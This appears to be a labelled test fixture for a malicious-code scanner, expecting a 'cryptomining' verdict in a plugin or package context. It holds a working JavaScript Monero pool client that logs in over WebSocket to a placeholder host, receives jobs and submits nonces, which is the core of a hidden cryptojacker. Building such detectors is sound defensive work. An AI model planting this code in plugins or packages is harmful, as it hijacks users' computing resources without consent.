// expect: category=cryptomining min=95 context=plugin,package
// why: the login/job/submit protocol of Monero pool proxies, with nonce results sent back.
const sock = new WebSocket('wss://203.0.113.50:3333');
let session = null;

sock.addEventListener('open', () => {
  sock.send(JSON.stringify({ id: 1, jsonrpc: '2.0', method: 'login',
    params: { login: '48ExampleNotARealAddress', pass: 'x', agent: 'js/1.0', algo: ['rx/0'] } }));
});

sock.addEventListener('message', (ev) => {
  const m = JSON.parse(ev.data);
  const job = (m.result && m.result.job) || (m.method === 'job' && m.params);
  if (m.result && m.result.id) session = m.result.id;
  if (job) self.currentJob = { blob: job.blob, target: job.target, jobId: job.job_id };
});

function submit(nonce, result) {
  sock.send(JSON.stringify({ id: 4, jsonrpc: '2.0', method: 'submit',
    params: { id: session, job_id: self.currentJob.jobId, nonce, result } }));
}

self.onmessage = (e) => submit(e.data.nonce, e.data.hash);
